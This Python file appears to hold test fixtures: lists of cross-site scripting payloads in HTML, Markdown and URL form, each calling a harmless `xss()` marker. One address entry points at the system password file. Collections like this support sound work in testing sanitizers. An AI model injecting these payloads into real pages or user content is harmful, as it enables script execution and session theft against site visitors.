"""Texts that run a script where a page makes HTML, a link or a handler of them. Each calls `xss()`."""

HTML = r"""<script>xss()</script>
<ScRiPt>xss()</sCrIpT>
<script src="data:text/javascript,xss()"></script>
<scr<script>ipt>xss()</scr</script>ipt>
"><script>xss()</script>
'><script>xss()</script>
</title><script>xss()</script>
</textarea><script>xss()</script>
</style><script>xss()</script>
<!--><script>xss()</script>-->
<![CDATA[<script>xss()</script>]]>
<img src=x onerror=xss()>
<img src=x onerror="xss()">
<img/src=x/onerror=xss()>
<IMG SRC=x ONERROR=xss()>
<img src=x:x onerror&#61;xss()>
"><img src=x onerror=xss()>
' onmouseover='xss()
" autofocus onfocus="xss()
`onmouseover=xss()
<svg onload=xss()>
<svg/onload=xss()>
<svg><script>xss()</script></svg>
<svg><animate onbegin=xss() attributeName=x dur=1s>
<svg><a xlink:href="javascript:xss()"><text x=20 y=20>click</text></a></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.xss()</script>"></iframe></foreignObject></svg>
<math><mtext></form><form><mglyph><style></math><img src onerror=xss()>
<math href="javascript:xss()">click</math>
<iframe src="javascript:parent.xss()"></iframe>
<iframe srcdoc="<script>parent.xss()</script>"></iframe>
<object data="javascript:xss()"></object>
<object data="data:text/html,<script>opener.xss()</script>"></object>
<embed src="javascript:xss()">
<body onload=xss()>
<body onpageshow=xss()>
<details open ontoggle=xss()>x</details>
<video><source onerror=xss()></video>
<video src=x onerror=xss()></video>
<audio src=x onerror=xss()></audio>
<input autofocus onfocus=xss()>
<select autofocus onfocus=xss()></select>
<textarea autofocus onfocus=xss()></textarea>
<button formaction="javascript:xss()" autofocus>x</button>
<form action="javascript:xss()"><input type=submit></form>
<marquee onstart=xss()>x</marquee>
<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=xss()>x</p>
<link rel=stylesheet href="javascript:xss()">
<meta http-equiv=refresh content="0;url=javascript:xss()">
<base href="javascript:xss()//">
<a href="javascript:xss()">click</a>
<a href="java&#115;cript:xss()">click</a>
<a href="data:text/html,<script>opener.xss()</script>">click</a>
<div onpointerenter=xss() style="position:fixed;inset:0">x</div>
<noscript><p title="</noscript><img src=x onerror=xss()>">
<template><script>xss()</script></template>
<x contenteditable onblur=xss()>x
<custom-element onclick=xss() tabindex=1>x
&lt;script&gt;xss()&lt;/script&gt;
&#60;img src=x onerror=xss()&#62;
&#x3c;svg onload=xss()&#x3e;
\x3cscript\x3exss()\x3c/script\x3e
\u003cimg src=x onerror=xss()\u003e
${xss()}
{{xss()}}
{{constructor.constructor('xss()')()}}""".split("\n")

MARKDOWN = r"""[click](javascript:xss())
[click](JaVaScRiPt:xss())
[click]( javascript:xss())
[click](<java&#10;script:xss()>)
[click](javascript&colon;xss())
[click](&#106;avascript:xss())
[click](vbscript:xss())
[click](data:text/html;base64,PHNjcmlwdD5vcGVuZXIueHNzKCk8L3NjcmlwdD4=)
[click](//javascript:xss())
[click](blob:xss())
[click](https://example.org"onmouseover="xss())
[click](https://example.org "t" onmouseover=xss())
<javascript:xss()>
![x](x"onerror="xss())
![x](javascript:xss())
[x]: javascript:xss() [x]
[a][b]  [b]: javascript:xss()
`<img src=x onerror=xss()>`
**<img src=x onerror=xss()>**
| <img src=x onerror=xss()> | <svg onload=xss()> |
# <script>xss()</script>
- <details open ontoggle=xss()>
> <iframe src="javascript:parent.xss()">
[1](javascript:xss())
[<img src=x onerror=xss()>](https://example.org)""".split("\n")

ADDRESSES = r"""javascript:xss()
JAVASCRIPT:xss()
 javascript:xss()
java	script:xss()
javascript://example.org/%0axss()
data:text/html,<script>opener.xss()</script>
vbscript:xss()
https://example.org/"onmouseover="xss()
blob:https://example.org/xss
file:///etc/passwd""".split("\n")

PAYLOADS = [*HTML, *MARKDOWN]
